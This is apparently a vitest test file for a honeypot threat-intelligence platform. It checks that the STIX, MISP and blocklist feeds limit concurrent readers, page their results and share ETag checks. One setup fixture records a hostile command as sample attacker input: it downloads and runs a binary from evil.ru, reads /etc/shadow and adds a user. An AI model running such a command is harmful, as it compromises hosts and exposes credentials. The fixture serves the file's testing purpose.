import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { type Database, openDatabase } from '../../platform/postgres/database.js'
import { silent } from '../../testing/silent.js'
import { SENSOR_KEY, startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'
import { until } from '../../testing/until.js'
import { createFeeds } from './feeds.js'
import { createIndicatorStore, type IndicatorStore } from './store.js'

const SESSIONS = 20_000

describe.each(inject('postgresServers'))('readers of feeds on $version', (server) => {
  let api: TestPlatform
  let token: string
  let database: Database
  beforeAll(async () => {
    api = await startTestPlatform(server)
    token = await api.login()
    const command = 'wget http://evil.ru/x; chmod 777 x; ./x; cat /etc/shadow; crontab -l; useradd q'
    await api.send(
      JSON.stringify({
        source_ip: '45.9.148.3',
        session: 's',
        occurred_at: new Date().toISOString(),
        command,
      }),
    )
    database = openDatabase({ connectionString: api.databaseUrl }, silent('test'), () => {})
    await database.maintenance.query({
      text: `INSERT INTO sessions SELECT (jsonb_populate_record(s, jsonb_build_object(
          'id', gen_random_uuid(), 'source_ip', '45.10.0.0'::inet + i))).* FROM sessions s, generate_series(1, $1::int) AS i`,
      values: [SESSIONS],
    })
  }, 60_000)
  afterAll(async () => {
    await database.close()
    await api.close()
  })

  /** A client that asks and never reads. */
  async function stalledReader(path: string): Promise<Socket> {
    const { hostname, port } = new URL(api.url)
    const socket = connect(Number(port), hostname)
    socket.pause()
    await once(socket, 'connect')
    socket.write(`GET ${path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\n\r\n`)
    return socket
  }
  async function metric(name: string): Promise<number> {
    const text = await (await api.call('/metrics')).text()
    return Number(
      new RegExp(`^${name.replaceAll(/[{}]/g, '\\$&')} (\\S+)`, 'm').exec(text)?.[1] ?? Number.NaN,
    )
  }
  const get = (path: string, headers: Record<string, string> = {}) => api.call(path, { as: token, headers })
  const readers = (count: number) =>
    until(async () => (await metric('eviltwin_feeds_readers')) === count || undefined)

  test('two read at a time; a third is refused, who has the content is not, and events come in', async () => {
    const etag = (await get('/feeds/blocklist.txt')).headers.get('etag') ?? ''
    await readers(0)
    const stalled = [await stalledReader('/feeds/stix'), await stalledReader('/feeds/iocs?format=misp')]
    await readers(2)
    const refused = await get('/feeds/stix')
    expect([refused.status, refused.headers.get('retry-after')]).toEqual([503, '5'])
    expect(await refused.json()).toMatchObject({ type: '/problems/feeds-busy' })
    expect(await metric('eviltwin_feeds_requests_total{outcome="refused"}')).toBe(1)
    expect((await get('/feeds/blocklist.txt', { 'if-none-match': etag })).status).toBe(304)
    const sent = await api.call('/log', {
      method: 'POST',
      as: SENSOR_KEY,
      body: JSON.stringify({ source_ip: '45.9.148.4', occurred_at: new Date().toISOString(), command: 'id' }),
    })
    expect(sent.status).toBe(200)
    // A client that leaves gives back its permit and its connection.
    for (const socket of stalled) socket.destroy()
    await readers(0)
    const whole = await get('/feeds/stix')
    expect(((await whole.json()) as { objects: object[] }).objects).toHaveLength(SESSIONS + 2)
  }, 60_000)

  test('readers use connections of their own, as many as there are', async () => {
    const pool = (name: string, state: string) =>
      metric(`db_client_connection_peak{db_client_connection_pool_name="${name}"}`).then((peak) => [
        state,
        peak,
      ])
    await Promise.all(
      Array.from({ length: 20 }, () => get('/feeds/blocklist.txt?hours=2160').then((r) => r.text())),
    )
    const [, peak] = await pool('feeds', 'peak')
    expect(peak).toBeLessThanOrEqual(3)
    expect((await pool('ingest', 'peak'))[1]).toBeLessThanOrEqual(2)
  })

  /** A store that counts its statements and the rows of its pages. */
  function counting(store: IndicatorStore) {
    const statements: string[] = []
    const pageSizes: number[] = []
    const counted = new Proxy(store, {
      get(target, name: keyof IndicatorStore) {
        return (...parameters: never[]) => {
          statements.push(name)
          const result = (target[name] as (...parameters: never[]) => unknown)(...parameters)
          return name === 'all' || name === 'sources' ? sized(result as AsyncGenerator<unknown[]>) : result
        }
      },
    })
    async function* sized(pages: AsyncGenerator<unknown[]>) {
      for await (const page of pages) {
        pageSizes.push(page.length)
        yield page
      }
    }
    return { counted, statements, pageSizes }
  }

  test('who has the content costs one small statement, shared by all who ask; nobody is sent more than a page at a time', async () => {
    const { counted, statements, pageSizes } = counting(createIndicatorStore(database.feeds))
    const feeds = createFeeds({
      store: counted,
      allowances: { list: async () => [] },
      policy: {
        minimum_score: 0.6,
        minimum_sensors: 1,
        minimum_keys: 1,
        expiry_days: 30,
        includes_documentation_addresses: false,
      },
      fixedLists: [],
      platformLists: () => [],
      now: Date.now,
      maxReaders: 2,
    })
    const filter = { hours: 168, threat_level: 'high' } as const
    const first = await feeds.ofTime('stix', filter, () => false)
    let parts = 0
    while ((await first.content?.reading.next()) !== null) parts += 1
    await first.content?.reading.close()
    expect(feeds.readers()).toBe(0)
    expect(Math.max(...pageSizes)).toBeLessThanOrEqual(250)
    expect(parts).toBeGreaterThanOrEqual(SESSIONS / 250)
    statements.length = 0
    const polls = Array.from({ length: 20 }, () =>
      feeds.ofTime('stix', filter, (etag) => etag === first.etag),
    )
    for (const { content } of await Promise.all(polls)) expect(content).toBeNull()
    // The first one's, and the one that all others share.
    expect(statements).toEqual(['version', 'version'])
  }, 60_000)

  test('a reading that is not finished gives everything back when it is closed', async () => {
    const store = createIndicatorStore(database.feeds)
    const pages = store.all({ since: new Date(0), minimumLevel: 'low', minimumScore: 0 })
    expect((await pages.next()).value).toHaveLength(250)
    await pages.return()
    const { size, idle } = database.use().feeds
    expect(size - idle).toBe(0)
  })
})
